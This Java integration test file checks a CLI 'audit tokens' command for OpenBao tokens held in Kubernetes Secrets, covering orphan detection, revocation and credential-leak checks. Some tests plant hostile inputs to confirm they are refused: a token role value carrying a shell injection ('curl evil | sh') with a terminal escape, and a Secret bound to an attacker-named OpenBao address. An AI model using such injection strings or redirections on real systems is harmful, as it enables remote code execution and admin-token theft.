package io.mcpctl.cli.audit;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.fabric8.kubernetes.api.model.Secret;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.mcpctl.api.v1alpha1.SecretBackend;
import io.mcpctl.api.v1alpha1.SecretKeyRef;
import io.mcpctl.api.v1alpha1.TlsSpec;
import io.mcpctl.cli.CliHarness;
import io.mcpctl.cli.KubeFixture;
import io.mcpctl.cli.LeakCheck;
import io.mcpctl.cli.wizard.WizardFixture;
import io.mcpctl.openbao.IssuedToken;
import io.mcpctl.openbao.TokenCreateRequest;
import io.mcpctl.sandbox.openbao.OpenBaoStandIn;
import io.mcpctl.sandbox.openbao.StandInOptions;
import io.mcpctl.time.Rfc3339;
import io.mcpctl.tokensecret.TokenSecretBinding;
import io.mcpctl.tokensecret.TokenSecretKeys;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Consumer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * {@code audit tokens} against the OpenBao stand-in and the embedded Kubernetes API: a backend set
 * up by the wizard, tokens made by hand with its role, and the Secret's own record of which ones it
 * holds. Every test ends with the scan for the admin token and the backend's tokens.
 */
class AuditTokensIT {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String SHARED = "ci-shared-rotator";

  private static KubeFixture kube;
  private WizardFixture fixture;
  private KubernetesClient client;
  private final CliHarness harness = new CliHarness();
  private final List<CliHarness.Result> results = new ArrayList<>();
  private String role;

  @BeforeAll
  static void startKubernetes() {
    kube = KubeFixture.start();
  }

  @AfterAll
  static void stopKubernetes() {
    kube.close();
  }

  @BeforeEach
  void setUpABackend() {
    fixture = new WizardFixture(kube, StandInOptions.defaults());
    client = kube.client();
    CliHarness.Result wizard = fixture.runWithRootToken(harness, "bao", "--yes");
    assertThat(wizard.exitCode()).as(wizard.toString()).isZero();
    role = backend().getSpec().getOpenbao().getAuth().getRotation().getTokenRole();
  }

  @AfterEach
  void noCredentialLeaked() {
    fixture.assertAdminTokenLeakedNowhere();
    LeakCheck current = LeakCheck.of(secretValue(TokenSecretKeys.TOKEN));
    results.forEach(current::assertNotIn);
    fixture.close();
  }

  @Test
  void sortsTheRolesTokensAndRevokesOnlyTheOrphanWhenAsked() throws Exception {
    IssuedToken orphan = fixture.root().createToken(role);
    IssuedToken staged = fixture.root().createToken(role);
    putInSecret(Map.of(TokenSecretKeys.NEXT_ACCESSOR, staged.accessor()), Map.of());
    String current = secretValue(TokenSecretKeys.ACCESSOR);

    CliHarness.Result young = audit();
    assertThat(young.exitCode()).as(young.toString()).isZero();
    assertThat(young.stdout())
        .contains(orphan.accessor() + "   recent")
        .contains("1 current, 1 staged, 0 previous, 0 of other backends, 1 recent, 0 orphans");

    CliHarness.Result found = audit("--min-age", "0s", "-o", "json");
    assertThat(found.exitCode()).as(found.toString()).isEqualTo(1);
    assertThat(found.stderr())
        .contains("1 orphan token of role " + role + " is alive")
        .contains(
            " --url " + backend().getSpec().getOpenbao().getAddress() + " --revoke-orphans'.");
    JsonNode report = JSON.readTree(found.stdout());
    assertThat(report.path("kind").asText()).isEqualTo("TokenAudit");
    assertThat(stateOf(report, current)).isEqualTo("current");
    assertThat(stateOf(report, staged.accessor())).isEqualTo("staged");
    assertThat(stateOf(report, orphan.accessor())).isEqualTo("orphan");
    assertThat(report.path("summary").path("orphans").asInt()).isEqualTo(1);
    assertThat(report.path("summary").path("revoked").asInt()).isZero();
    assertThat(fixture.root().lookupAccessor(orphan.accessor()))
        .as("not asked to revoke")
        .isPresent();

    CliHarness.Result revoked = audit("--min-age", "0s", "--revoke-orphans");
    assertThat(revoked.exitCode()).as(revoked.toString()).isZero();
    assertThat(revoked.stdout()).contains(orphan.accessor() + "   orphan (revoked now)");
    assertThat(fixture.root().lookupAccessor(orphan.accessor())).isEmpty();
    assertThat(fixture.root().lookupAccessor(current)).as("the current token lives").isPresent();
    assertThat(fixture.root().lookupAccessor(staged.accessor()))
        .as("the staged one too")
        .isPresent();
  }

  @Test
  void anAccessorEntryWhoseTokenIsGoneIsSkippedWithAWordNotTakenForARefusal() throws Exception {
    IssuedToken orphan = fixture.root().createToken(role);
    IssuedToken interrupted = fixture.root().createToken(role);
    assertThat(fixture.bao.revokeLeavingAccessorEntry(interrupted.accessor())).isTrue();

    CliHarness.Result result = audit("--min-age", "0s", "-o", "json");

    assertThat(result.exitCode()).as(result.toString()).isEqualTo(1);
    JsonNode report = JSON.readTree(result.stdout());
    assertThat(stateOf(report, orphan.accessor())).isEqualTo("orphan");
    assertThat(report.path("summary").path("orphans").asInt())
        .as("the entry without a token is no orphan to revoke")
        .isEqualTo(1);
    assertThat(report.path("warnings").toString())
        .contains(
            "1 accessor entry names no token any more (left by an interrupted revocation) and was"
                + " skipped; 'bao write auth/token/tidy' removes them.");
  }

  @Test
  void anAdminTokenThatMayNotLookUpAccessorsIsStillToldSo() {
    fixture
        .root()
        .writePolicy(
            "list-accessors-only",
            "path \"auth/token/accessors\" {\n  capabilities = [\"list\", \"sudo\"]\n}\n");
    IssuedToken lister =
        fixture
            .root()
            .createToken(
                TokenCreateRequest.builder().policies(List.of("list-accessors-only")).build());

    CliHarness.Result result = auditAs(lister.clientToken().reveal());

    assertThat(result.exitCode()).as(result.toString()).isNotZero();
    assertThat(result.stderr())
        .contains("The audit could not list the tokens")
        .contains("update on auth/token/lookup-accessor");
    assertThat(result.stdout() + result.stderr()).doesNotContain(lister.clientToken().reveal());
  }

  @Test
  void aTokenMintedSinceAMintStartedIsNeverAnOrphan() throws Exception {
    Instant mintStarted = Instant.now().minusSeconds(5);
    putInSecret(
        Map.of(), Map.of(TokenSecretKeys.MINT_STARTED_AT_ANNOTATION, Rfc3339.format(mintStarted)));
    IssuedToken fresh = fixture.root().createToken(role);

    CliHarness.Result result = audit("--min-age", "0s", "--revoke-orphans", "-o", "json");

    assertThat(result.exitCode()).as(result.toString()).isZero();
    assertThat(stateOf(JSON.readTree(result.stdout()), fresh.accessor())).isEqualTo("recent");
    assertThat(fixture.root().lookupAccessor(fresh.accessor())).isPresent();
  }

  @Test
  void anotherBackendsTokensOfASharedRoleAreTheirsNotOrphans() throws Exception {
    // A role named by hand (--token-role) that two namespaces' backends share.
    rotateThroughASharedRole();
    String otherNamespace = kube.newNamespace("audit-shared");
    IssuedToken theirs = fixture.root().createToken(SHARED);
    IssuedToken orphan = fixture.root().createToken(SHARED);
    backendIn(otherNamespace, SHARED, theirs, Optional.empty());

    CliHarness.Result result =
        audit("--min-age", "0s", "--revoke-orphans", "--role", SHARED, "-o", "json");

    assertThat(result.exitCode()).as(result.toString()).isZero();
    JsonNode report = JSON.readTree(result.stdout());
    assertThat(stateOf(report, theirs.accessor())).isEqualTo("other-backend");
    assertThat(fixture.root().lookupAccessor(theirs.accessor())).isPresent();
    assertThat(fixture.root().lookupAccessor(orphan.accessor())).as("the orphan").isEmpty();
    LeakCheck.of(theirs.clientToken().reveal()).assertNotIn(result);
  }

  @Test
  void aBackendSharingTheRoleWhoseSecretCannotBeUsedIsNamedWithoutStoppingTheAudit()
      throws Exception {
    rotateThroughASharedRole();
    String otherNamespace = kube.newNamespace("audit-broken");
    IssuedToken orphan = fixture.root().createToken(SHARED);
    backendIn(otherNamespace, SHARED, orphan, Optional.of("no-such-ca"));

    CliHarness.Result result = audit("--min-age", "0s", "--role", SHARED);

    assertThat(result.exitCode()).as(result.toString()).isEqualTo(1);
    assertThat(result.stdout() + result.stderr())
        .contains(
            "SecretBackend "
                + otherNamespace
                + "/bao-ca also uses role "
                + SHARED
                + " but its token Secret could not be used (")
        .doesNotContain("Unexpected");
  }

  @Test
  void anotherNamespaceClaimingATokenOfTheBackendsOwnRoleHidesNoOrphanAndStopsNoAudit()
      throws Exception {
    IssuedToken orphan = fixture.root().createToken(role);
    // Whoever may edit backends in another namespace names this backend's own role and puts the
    // orphan's accessor in their Secret; a second backend there names a CA Secret that is missing.
    String otherNamespace = kube.newNamespace("audit-claims");
    backendIn(otherNamespace, role, orphan, Optional.empty());
    backendIn(otherNamespace, role, orphan, Optional.of("no-such-ca"));

    CliHarness.Result found = audit("--min-age", "0s", "-o", "json");

    assertThat(found.exitCode()).as(found.toString()).isEqualTo(1);
    assertThat(stateOf(JSON.readTree(found.stdout()), orphan.accessor())).isEqualTo("orphan");

    CliHarness.Result revoked = audit("--min-age", "0s", "--revoke-orphans");

    assertThat(revoked.exitCode()).as(revoked.toString()).isZero();
    assertThat(fixture.root().lookupAccessor(orphan.accessor())).isEmpty();
  }

  /** A role like the backend's own under another name, which the backend now mints through. */
  private void rotateThroughASharedRole() {
    fixture
        .root()
        .writeTokenRole(fixture.root().readTokenRole(role).orElseThrow().withName(SHARED));
    editBackend(
        edited -> edited.getSpec().getOpenbao().getAuth().getRotation().setTokenRole(SHARED));
  }

  /**
   * A backend called {@code bao} or {@code bao-ca-…} in {@code namespace}, minting through {@code
   * tokenRole} at this test's OpenBao, whose bound token Secret holds {@code token}.
   */
  private void backendIn(
      String namespace, String tokenRole, IssuedToken token, Optional<String> missingCaSecret) {
    String name = missingCaSecret.map(ca -> "bao-ca").orElse("bao");
    SecretBackend other = backend();
    other.getMetadata().setNamespace(namespace);
    other.getMetadata().setName(name);
    other.getMetadata().setResourceVersion(null);
    other.getMetadata().setUid(null);
    other.setStatus(null);
    other.getSpec().setDefault(false);
    other.getSpec().getOpenbao().getAuth().getRotation().setTokenRole(tokenRole);
    other.getSpec().getOpenbao().getAuth().getTokenSecretRef().setName(name + "-token");
    missingCaSecret.ifPresent(
        ca -> {
          TlsSpec tls = new TlsSpec();
          tls.setCaSecretRef(new SecretKeyRef(ca, "ca.crt"));
          other.getSpec().getOpenbao().setTls(tls);
        });
    client.resource(other).create();
    client
        .resource(
            new SecretBuilder()
                .withNewMetadata()
                .withNamespace(namespace)
                .withName(name + "-token")
                .withAnnotations(
                    TokenSecretBinding.Binding.rotated(
                            name, fixture.bao.address().toString(), TokenSecretBinding.TLS_SYSTEM)
                        .annotations())
                .endMetadata()
                .withType(TokenSecretBinding.TYPE)
                .withData(
                    Map.of(
                        TokenSecretKeys.TOKEN, base64(token.clientToken().reveal()),
                        TokenSecretKeys.ACCESSOR, base64(token.accessor())))
                .build())
        .create();
  }

  @Test
  void aTokenSecretBoundToAnotherAddressStopsTheAuditBeforeTheAdminTokenIsRead() {
    putInSecret(
        Map.of(),
        Map.of(TokenSecretBinding.ADDRESS_ANNOTATION, "https://openbao.attacker.example"));

    CliHarness.Result result =
        fixture.run(
            harness,
            concat(
                List.of("audit", "tokens", "bao", "--admin-token-file", "/nonexistent/admin-token"),
                kube.flags(fixture.namespace)));
    results.add(result);

    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stderr())
        .contains("not at " + fixture.bao.address().toString().replaceAll("/$", ""))
        .contains("only when its token Secret is bound there")
        .doesNotContain("/nonexistent/admin-token");
  }

  @Test
  void aMissingTokenSecretStopsTheAuditBeforeAnyRequestReachesTheBackendsAddress() {
    try (OpenBaoStandIn elsewhere = OpenBaoStandIn.start(StandInOptions.defaults())) {
      editBackend(
          edited -> {
            edited.getSpec().getOpenbao().setAddress(elsewhere.address().toString());
            edited.getSpec().getOpenbao().getAuth().getTokenSecretRef().setName("nonexistent");
          });
      fixture.bao.requestLog().clear();

      CliHarness.Result result = audit("--min-age", "0s");

      assertThat(result.exitCode()).as(result.toString()).isEqualTo(1);
      assertThat(result.stderr())
          .contains("Secret " + fixture.namespace + "/nonexistent does not exist")
          .contains("re-create the backend with the wizard")
          .contains("bao CLI against an address you trust");
      assertThat(result.stderr().strip().lines()).hasSize(1);
      assertThat(elsewhere.requestLog().answered())
          .as("requests at the backend's address")
          .isZero();
      assertThat(fixture.bao.requestLog().answered()).isZero();
    }
  }

  @Test
  void theAdminTokenGoesOnlyToTheOpenBaoTheAdminNamesEvenWhenTheNamespaceBoundAnother() {
    try (OpenBaoStandIn elsewhere = OpenBaoStandIn.start(StandInOptions.defaults())) {
      // Whoever may edit the namespace's SecretBackend and Secret points both at their server.
      String theirs = elsewhere.address().toString();
      editBackend(edited -> edited.getSpec().getOpenbao().setAddress(theirs));
      putInSecret(Map.of(), Map.of(TokenSecretBinding.ADDRESS_ANNOTATION, theirs));

      CliHarness.Result named = audit("--min-age", "0s");
      CliHarness.Result unnamed =
          fixture.run(
              harness,
              concat(
                  List.of(
                      "audit",
                      "tokens",
                      "bao",
                      "--admin-token-file",
                      fixture.secretFile("admin-token", fixture.adminToken() + "\n").toString()),
                  kube.flags(fixture.namespace)));
      results.add(unnamed);

      assertThat(named.exitCode()).as(named.toString()).isEqualTo(1);
      assertThat(named.stderr().strip())
          .isEqualTo(
              "error: SecretBackend "
                  + fixture.namespace
                  + "/bao points at "
                  + theirs.replaceAll("/$", "")
                  + ", not at "
                  + fixture.bao.address().toString().replaceAll("/$", "")
                  + " that you named, so the audit sends your admin token to neither; if the"
                  + " backend should use that OpenBao, find out who changed its"
                  + " spec.openbao.address.");
      assertThat(unnamed.exitCode()).as(unnamed.toString()).isEqualTo(1);
      assertThat(unnamed.stderr())
          .contains("Name the OpenBao your admin token belongs to with --url (or BAO_ADDR)");
      assertThat(elsewhere.requestLog().answered()).as("requests at their server").isZero();
    }
  }

  @Test
  void anAddressWithoutASchemeIsOneSentenceNamingTheFlag() {
    CliHarness.Result result =
        fixture.run(
            harness,
            concat(
                List.of(
                    "audit",
                    "tokens",
                    "bao",
                    "--url",
                    "bao.example.com:8200",
                    "--admin-token-file",
                    fixture.secretFile("admin-token", fixture.adminToken() + "\n").toString()),
                kube.flags(fixture.namespace)));
    results.add(result);

    assertThat(result.exitCode()).as(result.toString()).isEqualTo(1);
    assertThat(result.stderr().strip())
        .isEqualTo(
            "error: --url: The OpenBao address 'bao.example.com:8200' is not an http or https URL"
                + " with a host; pass one such as https://bao.example.com:8200.");
  }

  @Test
  void theAdminTokenGoesOnlyIntoTheOpenBaoNamespaceTheAdminNames() {
    editBackend(edited -> edited.getSpec().getOpenbao().setNamespace("platform"));
    fixture.bao.requestLog().clear();

    CliHarness.Result unnamed = audit("--min-age", "0s");
    CliHarness.Result other = audit("--min-age", "0s", "--openbao-namespace", "team-x");

    assertThat(unnamed.exitCode()).as(unnamed.toString()).isEqualTo(1);
    assertThat(unnamed.stderr())
        .contains(
            "names OpenBao namespace platform, not the root namespace as you did"
                + " (--openbao-namespace or BAO_NAMESPACE), so the audit sends your admin token to"
                + " neither.");
    assertThat(other.exitCode()).as(other.toString()).isEqualTo(1);
    assertThat(other.stderr())
        .contains("names OpenBao namespace platform, not OpenBao namespace team-x");
    assertThat(fixture.bao.requestLog().answered()).isZero();
  }

  @Test
  void theAdminTokenTrustsOnlyTheCertificatesTheAdminGivesNotTheBackends() {
    try (WizardFixture tls = new WizardFixture(kube, StandInOptions.defaults().tls(true))) {
      Path caFile = tls.secretFile("ca.pem", tls.bao.caCertificatePem().orElseThrow());
      CliHarness.Result wizard =
          tls.runWithRootToken(new CliHarness(), "bao", "--ca-file", caFile.toString(), "--yes");
      assertThat(wizard.exitCode()).as(wizard.toString()).isZero();
      tls.bao.requestLog().clear();
      List<String> audit =
          List.of(
              "audit",
              "tokens",
              "bao",
              "--url",
              tls.bao.address().toString(),
              "--admin-token-file",
              tls.secretFile("admin-token", tls.adminToken() + "\n").toString());

      // The backend trusts its CA through its own Secret; the admin token does not.
      CliHarness.Result untrusted =
          tls.run(new CliHarness(), concat(audit, kube.flags(tls.namespace)));
      List<String> withCa = new ArrayList<>(audit);
      withCa.addAll(List.of("--ca-file", caFile.toString()));
      CliHarness.Result trusted =
          tls.run(new CliHarness(), concat(withCa, kube.flags(tls.namespace)));

      assertThat(untrusted.exitCode()).as(untrusted.toString()).isEqualTo(1);
      assertThat(untrusted.stderr()).contains("TLS");
      assertThat(trusted.exitCode()).as(trusted.toString()).isZero();
      tls.assertAdminTokenLeakedNowhere();
    }
  }

  @Test
  void revokingTheOrphansOfAnotherRoleThanTheBackendsOwnNeedsTheAdminToNameIt() {
    editBackend(
        edited ->
            edited.getSpec().getOpenbao().getAuth().getRotation().setTokenRole("ci-deployer"));
    IssuedToken ownRolesToken = fixture.root().createToken(role);
    fixture.bao.requestLog().clear();

    CliHarness.Result refused = audit("--min-age", "0s", "--revoke-orphans");
    assertThat(refused.exitCode()).as(refused.toString()).isEqualTo(1);
    assertThat(refused.stderr())
        .contains("names token role ci-deployer, not its own (" + role + ")")
        .contains("only when you name that role with --role");
    assertThat(fixture.bao.requestLog().answered()).as("no request before the refusal").isZero();

    CliHarness.Result confirmed =
        audit("--min-age", "0s", "--revoke-orphans", "--role", "ci-deployer");
    assertThat(confirmed.exitCode()).as(confirmed.toString()).isZero();
    assertThat(fixture.root().lookupAccessor(ownRolesToken.accessor()))
        .as("a token of the backend's own role is no token of ci-deployer")
        .isPresent();
  }

  @Test
  void aTokenRoleOpenBaoWouldRefuseStopsTheAuditBeforeAnyRequestAndIsNeverQuoted() {
    editBackend(
        edited ->
            edited
                .getSpec()
                .getOpenbao()
                .getAuth()
                .getRotation()
                .setTokenRole("x; curl evil | sh #\u001b]0;owned\u0007"));
    fixture.bao.requestLog().clear();

    CliHarness.Result refused = audit("--min-age", "0s");

    assertThat(refused.exitCode()).as(refused.toString()).isEqualTo(1);
    assertThat(refused.stderr())
        .contains("names a token role that OpenBao would refuse")
        .doesNotContain("curl");
    assertThat(fixture.bao.requestLog().answered()).as("no request before the refusal").isZero();
  }

  private void editBackend(Consumer<SecretBackend> edit) {
    client
        .resources(SecretBackend.class)
        .inNamespace(fixture.namespace)
        .withName("bao")
        .edit(
            edited -> {
              edit.accept(edited);
              return edited;
            });
  }

  private CliHarness.Result audit(String... extra) {
    return auditAs(fixture.adminToken(), extra);
  }

  private CliHarness.Result auditAs(String adminToken, String... extra) {
    List<String> args =
        new ArrayList<>(
            List.of("audit", "tokens", "bao", "--url", fixture.bao.address().toString()));
    args.addAll(List.of(extra));
    args.add("--admin-token-file");
    args.add(fixture.secretFile("admin-token", adminToken + "\n").toString());
    CliHarness.Result result = fixture.run(harness, concat(args, kube.flags(fixture.namespace)));
    results.add(result);
    return result;
  }

  private static String[] concat(List<String> first, String[] second) {
    List<String> all = new ArrayList<>(first);
    all.addAll(List.of(second));
    return all.toArray(String[]::new);
  }

  private static String stateOf(JsonNode report, String accessor) {
    for (JsonNode token : report.path("tokens")) {
      if (token.path("accessor").asText().equals(accessor)) {
        return token.path("state").asText();
      }
    }
    return "absent";
  }

  private SecretBackend backend() {
    return client
        .resources(SecretBackend.class)
        .inNamespace(fixture.namespace)
        .withName("bao")
        .get();
  }

  private Secret tokenSecret() {
    return client.secrets().inNamespace(fixture.namespace).withName("bao-token").get();
  }

  private String secretValue(String key) {
    return new String(
        Base64.getDecoder().decode(tokenSecret().getData().get(key)), StandardCharsets.UTF_8);
  }

  private void putInSecret(Map<String, String> data, Map<String, String> annotations) {
    client
        .secrets()
        .inNamespace(fixture.namespace)
        .withName("bao-token")
        .edit(
            secret -> {
              data.forEach((key, value) -> secret.getData().put(key, base64(value)));
              secret.getMetadata().getAnnotations().putAll(annotations);
              return secret;
            });
  }

  private static String base64(String value) {
    return Base64.getEncoder().encodeToString(value.getBytes(StandardCharsets.UTF_8));
  }
}
